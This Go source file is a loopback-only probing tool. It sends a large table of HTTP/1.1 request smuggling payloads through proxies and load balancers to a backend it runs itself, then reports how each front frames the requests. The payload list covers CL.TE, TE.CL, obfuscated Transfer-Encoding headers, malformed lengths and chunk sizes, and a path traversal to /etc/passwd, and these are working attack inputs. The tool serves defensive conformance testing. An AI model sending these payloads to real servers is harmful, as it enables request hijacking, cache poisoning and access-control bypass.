// Command probesmuggle sends a table of HTTP/1.1 request smuggling payloads
// (RFC 9112 §11.2) through running fronts (load balancer, edge, firewall,
// or a reference such as nginx/HAProxy) to a recording backend it serves
// itself, and prints each front's framing decision side by side: the
// statuses the client read, whether the connection then carried another
// request, and what the backend received (method, target, Host, body).
// A backend request for /smuggled that the client got no response for,
// or framing headers the backend receives ambiguously, are flagged.
//
//	go run ./scripts/probesmuggle -backend 127.0.0.1:9199 \
//	    -front lb=127.0.0.1:8081 -front nethttp=127.0.0.1:8083
//
// Everything binds and dials loopback only. See scripts/probe-smuggling.sh,
// which starts the examples in front of this backend and runs the table.
package main

import (
	"bufio"
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"sync"
	"time"
)

const smuggled = "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"

type payload struct{ name, raw string }

func cl(n int) string { return fmt.Sprint(n) }

// chunked0 is an empty chunked body followed by a smuggled request.
var chunked0 = "0\r\n\r\n" + smuggled

func payloads() []payload {
	p := []payload{
		{"baseline GET", "GET /a HTTP/1.1\r\nHost: x\r\n\r\n"},
		{"baseline POST CL", "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello"},
		{"baseline POST chunked", "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"},
		{"pipelined after body", "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello" + smuggled},
		{"CL.TE", "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: " + cl(len(chunked0)) + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked0},
		{"TE.CL", "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(smuggled), smuggled)},
	}
	for _, te := range []string{
		"xchunked", " chunked", "chunked, identity", "identity, chunked", "\tchunked", "chunked\t", "\x0bchunked", "chunked\x0b",
		"CHUNKED", "\"chunked\"", "chunked;q=1", "chunked, chunked", "gzip, chunked", "chunked\r\nTransfer-Encoding: identity",
		"identity\r\nTransfer-Encoding: chunked", "chunked\r\nTransfer-Encoding: chunked", "chunk", "\r\n chunked", "x\r\n chunked",
	} {
		p = append(p, payload{"TE " + fmt.Sprintf("%q", te) + " +CL", "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: " + cl(len(chunked0)) + "\r\nTransfer-Encoding: " + te + "\r\n\r\n" + chunked0})
		p = append(p, payload{"TE " + fmt.Sprintf("%q", te) + " alone", "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: " + te + "\r\n\r\n" + chunked0})
	}
	for _, name := range []string{"Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", " Transfer-Encoding: chunked", "Transfer_Encoding: chunked", "Transfer Encoding: chunked", "Transfer-Encoding:: chunked"} {
		p = append(p, payload{"name " + fmt.Sprintf("%q", name), "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: " + cl(len(chunked0)) + "\r\n" + name + "\r\n\r\n" + chunked0})
	}
	for _, v := range []string{"+5", " 5", "5 ", "0x5", "05", "5, 5", "5,6", "5,5", "5 5", "-5", "-0", "18446744073709551621", "99999999999999999999999", "5\x00", "5.0", "\x0b5", "", "5\r\nContent-Length: 5", "5\r\nContent-Length: 6", "5\r\n 0"} {
		p = append(p, payload{"CL " + fmt.Sprintf("%q", v), "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: " + v + "\r\n\r\nhello" + smuggled})
	}
	for _, c := range []struct{ n, b string }{
		{"size overflow ffffffffffffffff1", "ffffffffffffffff1\r\nhello\r\n0\r\n\r\n"},
		{"size 10000000000000005", "10000000000000005\r\nhello\r\n0\r\n\r\n"},
		{"size leading space", " 5\r\nhello\r\n0\r\n\r\n"},
		{"size trailing space", "5 \r\nhello\r\n0\r\n\r\n"},
		{"size 0x5", "0x5\r\nhello\r\n0\r\n\r\n"},
		{"size +5", "+5\r\nhello\r\n0\r\n\r\n"},
		{"size -5", "-5\r\nhello\r\n0\r\n\r\n"},
		{"size leading zeros", "0005\r\nhello\r\n0\r\n\r\n"},
		{"ext plain", "5;a=b\r\nhello\r\n0\r\n\r\n"},
		{"ext quoted CRLF", "5;a=\"\r\n0\r\n\r\n" + smuggled + "\"\r\nhello\r\n0\r\n\r\n"},
		{"ext bare LF", "5;a\nhello\r\n0\r\n\r\n"},
		{"ext 5000 bytes", "5;" + strings.Repeat("a", 5000) + "\r\nhello\r\n0\r\n\r\n"},
		{"data longer than size", "3\r\nhello\r\n0\r\n\r\n"},
		{"data LF only", "5\r\nhello\n0\r\n\r\n"},
		{"last chunk bare LF", "5\r\nhello\r\n0\n\n"},
		{"trailer forbidden fields", "5\r\nhello\r\n0\r\nContent-Length: 50\r\nTransfer-Encoding: chunked\r\nHost: evil\r\n\r\n"},
		{"trailer obs-fold", "5\r\nhello\r\n0\r\nX: a\r\n b\r\n\r\n"},
		{"trailer NUL", "5\r\nhello\r\n0\r\nX: a\x00b\r\n\r\n"},
		{"no final CRLF then request", "5\r\nhello\r\n0\r\n" + smuggled},
	} {
		p = append(p, payload{"chunk " + c.n, "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + c.b + smuggled})
	}
	p = append(p,
		payload{"bare LF everywhere", "GET /a HTTP/1.1\nHost: x\n\n"},
		payload{"bare LF end of head", "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\nhello"},
		payload{"bare CR line end", "GET /a HTTP/1.1\rHost: x\r\r\n"},
		payload{"obs-fold in CL", "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length:\r\n 5\r\n\r\nhello" + smuggled},
		payload{"obs-fold other", "GET /a HTTP/1.1\r\nHost: x\r\nX-A: a\r\n b\r\n\r\n"},
		payload{"NUL in value", "GET /a HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\n"},
		payload{"CR in value", "GET /a HTTP/1.1\r\nHost: x\r\nX-A: a\rb\r\n\r\n"},
		payload{"CR in value hides CL", "POST /a HTTP/1.1\r\nHost: x\r\nX-A: a\rContent-Length: 5\r\n\r\nhello" + smuggled},
		payload{"DEL in name", "GET /a HTTP/1.1\r\nHost: x\r\nX\x7fA: b\r\n\r\n"},
		payload{"empty name", "GET /a HTTP/1.1\r\nHost: x\r\n: b\r\n\r\n"},
		payload{"name with space", "GET /a HTTP/1.1\r\nHost: x\r\nX A: b\r\n\r\n"},
		payload{"colon in value", "GET /a HTTP/1.1\r\nHost: x\r\nX:Y: z\r\n\r\n"},
		payload{"absolute-form other host", "GET http://other.example/a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"absolute-form userinfo", "GET http://u:p@other.example/a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"absolute-form https", "GET https://other.example/a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"absolute-form ftp", "GET ftp://other.example/a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"Host userinfo", "GET /a HTTP/1.1\r\nHost: u@x\r\n\r\n"},
		payload{"Host with path", "GET /a HTTP/1.1\r\nHost: x/evil\r\n\r\n"},
		payload{"Host empty", "GET /a HTTP/1.1\r\nHost:\r\n\r\n"},
		payload{"Host twice", "GET /a HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n"},
		payload{"no Host 1.1", "GET /a HTTP/1.1\r\n\r\n"},
		payload{"no Host 1.0", "GET /a HTTP/1.0\r\n\r\n"},
		payload{"asterisk GET", "GET * HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"OPTIONS *", "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"CONNECT", "CONNECT other.example:22 HTTP/1.1\r\nHost: other.example:22\r\n\r\nSSH-2.0-x\r\n"},
		payload{"target ../", "GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"target fragment", "GET /a#frag HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"target space", "GET /a b HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"GET with body CL", "GET /a HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello" + smuggled},
		payload{"GET with chunked body", "GET /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + smuggled},
		payload{"HEAD with body CL", "HEAD /a HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello" + smuggled},
		payload{"Expect 100 + body at once", "POST /a HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello" + smuggled},
		payload{"Expect 100 GET no body", "GET /a HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\n\r\n" + smuggled},
		payload{"Expect unknown", "POST /a HTTP/1.1\r\nHost: x\r\nExpect: 200-ok\r\nContent-Length: 5\r\n\r\nhello"},
		payload{"Expect 100 HTTP/1.0", "POST /a HTTP/1.0\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello"},
		payload{"HTTP/0.9", "GET /a\r\n\r\n"},
		payload{"HTTP/2 version", "GET /a HTTP/2.0\r\nHost: x\r\n\r\n"},
		payload{"HTTP/1.2", "GET /a HTTP/1.2\r\nHost: x\r\n\r\n"},
		payload{"HTTP/1.10", "GET /a HTTP/1.10\r\nHost: x\r\n\r\n"},
		payload{"lowercase version", "GET /a http/1.1\r\nHost: x\r\n\r\n"},
		payload{"h2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		payload{"two spaces in line", "GET  /a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"tab in line", "GET\t/a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"leading CRLF", "\r\n\r\nGET /a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"leading space", " GET /a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"lowercase method", "get /a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"method with NUL", "G\x00T /a HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"request line 64 KiB", "GET /" + strings.Repeat("a", 64<<10) + " HTTP/1.1\r\nHost: x\r\n\r\n"},
		payload{"header 1 MiB", "GET /a HTTP/1.1\r\nHost: x\r\nX-A: " + strings.Repeat("a", 1<<20) + "\r\n\r\n"},
		payload{"10000 headers", "GET /a HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X-A: b\r\n", 10000) + "\r\n"},
		payload{"1.0 keep-alive TE", "POST /a HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked0},
		payload{"1.0 keep-alive TE+CL", "POST /a HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\nContent-Length: " + cl(len(chunked0)) + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked0},
		payload{"1.0 keep-alive CL", "POST /a HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nhello" + smuggled},
		payload{"Connection: Content-Length", "POST /a HTTP/1.1\r\nHost: x\r\nConnection: Content-Length\r\nContent-Length: 5\r\n\r\nhello" + smuggled},
		payload{"Connection: Transfer-Encoding", "POST /a HTTP/1.1\r\nHost: x\r\nConnection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + smuggled},
		payload{"Connection: Host", "GET /a HTTP/1.1\r\nHost: x\r\nConnection: Host\r\n\r\n"},
		payload{"Connection: close then more", "GET /a HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" + smuggled},
		payload{"Upgrade h2c", "GET /a HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n"},
		payload{"Upgrade websocket", "GET /a HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"},
		payload{"Proxy-Connection keep-alive", "GET /a HTTP/1.1\r\nHost: x\r\nProxy-Connection: keep-alive\r\n\r\n"},
		payload{"TE: trailers req", "GET /a HTTP/1.1\r\nHost: x\r\nTE: trailers\r\n\r\n"},
		payload{"Max-Forwards 0 TRACE", "TRACE /a HTTP/1.1\r\nHost: x\r\nMax-Forwards: 0\r\n\r\n"},
	)
	return p
}

// backend is a raw HTTP/1.1 server that records each request it reads.
type backend struct {
	mu   sync.Mutex
	reqs []string
	raw  bytes.Buffer
}

func (b *backend) serve(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go b.conn(c)
	}
}

type tee struct {
	b *backend
	c net.Conn
}

func (t tee) Read(p []byte) (int, error) {
	n, err := t.c.Read(p)
	t.b.mu.Lock()
	t.b.raw.Write(p[:n])
	t.b.mu.Unlock()
	return n, err
}

func (b *backend) conn(c net.Conn) {
	defer c.Close()
	br := bufio.NewReader(tee{b, c})
	for {
		req, err := http.ReadRequest(br)
		if err != nil {
			var ne *net.OpError
			if !errors.Is(err, io.EOF) && !errors.Is(err, io.ErrUnexpectedEOF) && !errors.As(err, &ne) {
				b.note("BACKEND-PARSE-ERROR %v", err)
			}
			return
		}
		body, err := io.ReadAll(req.Body)
		s := fmt.Sprintf("%s %s host=%q", req.Method, req.RequestURI, req.Host)
		if len(req.TransferEncoding) > 0 {
			s += fmt.Sprintf(" te=%q", req.TransferEncoding)
		}
		if len(body) > 0 {
			if len(body) > 40 {
				s += fmt.Sprintf(" body=%d bytes", len(body))
			} else {
				s += fmt.Sprintf(" body=%q", body)
			}
		}
		if len(req.Trailer) > 0 {
			s += fmt.Sprintf(" trailer=%v", req.Trailer)
		}
		if err != nil {
			s += " body-error=" + err.Error()
		}
		b.note("%s", s)
		if err != nil {
			return
		}
		io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nCache-Control: no-store\r\n\r\nok")
	}
}

func (b *backend) note(f string, a ...any) {
	b.mu.Lock()
	b.reqs = append(b.reqs, fmt.Sprintf(f, a...))
	b.mu.Unlock()
}

func (b *backend) take() ([]string, string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	r, raw := b.reqs, b.raw.String()
	b.reqs = nil
	b.raw.Reset()
	return r, raw
}

type result struct {
	codes   []string
	conn    string // open, closed, hang
	backend []string
	flags   []string
}

func (r result) String() string {
	s := fmt.Sprintf("%s %s", strings.Join(r.codes, ","), r.conn)
	if len(r.codes) == 0 {
		s = "- " + r.conn
	}
	return s
}

func run(front string, p payload, b *backend, wait time.Duration) result {
	var r result
	c, err := net.Dial("tcp", front)
	if err != nil {
		r.conn = "dial:" + err.Error()
		return r
	}
	defer c.Close()
	go c.Write([]byte(p.raw)) // a front may answer before reading all
	br := bufio.NewReader(c)
	for i := 0; i < 4; i++ {
		c.SetReadDeadline(time.Now().Add(wait))
		// The first response answers the payload's own method (a HEAD's
		// has no body); later ones are taken as GETs.
		var req *http.Request
		if i == 0 {
			m, _, _ := strings.Cut(p.raw, " ")
			req = &http.Request{Method: m}
		}
		resp, err := http.ReadResponse(br, req)
		if err != nil {
			break
		}
		io.Copy(io.Discard, resp.Body)
		r.codes = append(r.codes, fmt.Sprint(resp.StatusCode))
		if resp.StatusCode == 101 {
			break
		}
	}
	// Probe: does the connection carry another request?
	c.SetWriteDeadline(time.Now().Add(wait))
	if _, err := io.WriteString(c, "GET /probe HTTP/1.1\r\nHost: x\r\n\r\n"); err != nil {
		r.conn = "closed"
	} else {
		c.SetReadDeadline(time.Now().Add(wait))
		resp, err := http.ReadResponse(br, nil)
		var ne net.Error
		switch {
		case err == nil:
			r.conn = fmt.Sprintf("open(%d)", resp.StatusCode)
		case errors.As(err, &ne) && ne.Timeout():
			r.conn = "hang"
		default:
			r.conn = "closed"
		}
	}
	c.Close()
	time.Sleep(50 * time.Millisecond) // let the backend finish recording; a probe script, not a test
	reqs, raw := b.take()
	for _, q := range reqs {
		if strings.HasPrefix(q, "GET /probe ") {
			continue
		}
		r.backend = append(r.backend, q)
	}
	client200 := 0
	for _, s := range r.codes {
		if s == "200" {
			client200++
		}
	}
	sm := false
	for _, q := range reqs {
		sm = sm || strings.HasPrefix(q, "GET /smuggled ")
	}
	if sm && client200 < 2 {
		r.flags = append(r.flags, "SMUGGLED")
	}
	if i := strings.Index(raw, "\r\n\r\n"); i >= 0 {
		h := strings.ToLower(raw)
		if strings.Count(h, "\ncontent-length:") > strings.Count(h, "\r\n\r\n") || (strings.Contains(h, "\ntransfer-encoding:") && strings.Contains(h, "\ncontent-length:") && strings.Index(h, "\ntransfer-encoding:") < i && strings.Index(h, "\ncontent-length:") < i) {
			r.flags = append(r.flags, "AMBIGUOUS-FRAMING-TO-BACKEND")
		}
	}
	for _, q := range reqs {
		if strings.HasPrefix(q, "BACKEND-PARSE-ERROR") {
			r.flags = append(r.flags, "BACKEND-DESYNC")
		}
	}
	return r
}

func loopback(addr string) error {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return err
	}
	ip, err := netip.ParseAddr(host)
	if err != nil || !ip.IsLoopback() {
		return fmt.Errorf("%s: only loopback addresses are allowed", addr)
	}
	return nil
}

type fronts []string

func (f *fronts) String() string     { return strings.Join(*f, ",") }
func (f *fronts) Set(v string) error { *f = append(*f, v); return nil }

func main() {
	var fs fronts
	backAddr := flag.String("backend", "127.0.0.1:9199", "recording backend listen address (loopback)")
	wait := flag.Duration("wait", 700*time.Millisecond, "how long to wait for each response")
	only := flag.String("only", "", "run only payloads whose name contains this")
	verbose := flag.Bool("v", false, "print what the backend received for every payload and front")
	flag.Var(&fs, "front", "NAME=ADDR of a front to probe (repeatable, loopback)")
	flag.Parse()
	if err := loopback(*backAddr); err != nil {
		fmt.Fprintln(os.Stderr, "probesmuggle:", err)
		os.Exit(2)
	}
	type named struct{ name, addr string }
	var targets []named
	for _, f := range fs {
		n, a, ok := strings.Cut(f, "=")
		if !ok {
			n, a = f, f
		}
		if err := loopback(a); err != nil {
			fmt.Fprintln(os.Stderr, "probesmuggle:", err)
			os.Exit(2)
		}
		targets = append(targets, named{n, a})
	}
	if len(targets) == 0 {
		fmt.Fprintln(os.Stderr, "probesmuggle: give at least one -front NAME=ADDR")
		os.Exit(2)
	}
	ln, err := net.Listen("tcp", *backAddr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "probesmuggle:", err)
		os.Exit(2)
	}
	b := &backend{}
	go b.serve(ln)
	fmt.Printf("%-44s", "payload")
	for _, t := range targets {
		fmt.Printf(" | %-22s", t.name)
	}
	fmt.Println(" | differs")
	bad := 0
	for _, p := range payloads() {
		if *only != "" && !strings.Contains(p.name, *only) {
			continue
		}
		name := p.name
		if len(name) > 44 {
			name = name[:44]
		}
		fmt.Printf("%-44s", name)
		var outs []string
		var details []string
		for _, t := range targets {
			r := run(t.addr, p, b, *wait)
			cell := r.String()
			if len(r.flags) > 0 {
				cell += " !" + strings.Join(r.flags, "!")
				bad++
			}
			fmt.Printf(" | %-22s", cell)
			outs = append(outs, r.String()+fmt.Sprint(len(r.backend)))
			if *verbose || len(r.flags) > 0 {
				details = append(details, fmt.Sprintf("    %s backend: %q", t.name, r.backend))
			}
		}
		diff := ""
		for _, o := range outs[1:] {
			if o != outs[0] {
				diff = "*"
			}
		}
		fmt.Printf(" | %s\n", diff)
		for _, d := range details {
			fmt.Println(d)
		}
	}
	fmt.Printf("\n%d flagged cells (SMUGGLED: the backend saw /smuggled without the client getting two answers; AMBIGUOUS: framing headers reached the backend ambiguously; BACKEND-DESYNC: the backend could not parse what it got)\n", bad)
	if bad > 0 {
		os.Exit(1)
	}
}
